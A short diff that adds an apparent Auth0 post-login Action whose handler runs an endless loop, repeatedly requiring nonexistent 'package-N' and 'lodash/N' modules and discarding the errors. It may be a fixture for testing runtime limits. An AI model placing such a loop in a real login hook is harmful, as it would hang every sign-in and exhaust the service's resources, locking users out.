@@ -1,0 +1,3 @@
+exports.onExecutePostLogin = async (event, api) => {
+  for (let i = 0; ; i++) { try { require('package-' + i); } catch (e) { void e; } try { require('lodash/' + i); } catch (e) { void e; } }
+};
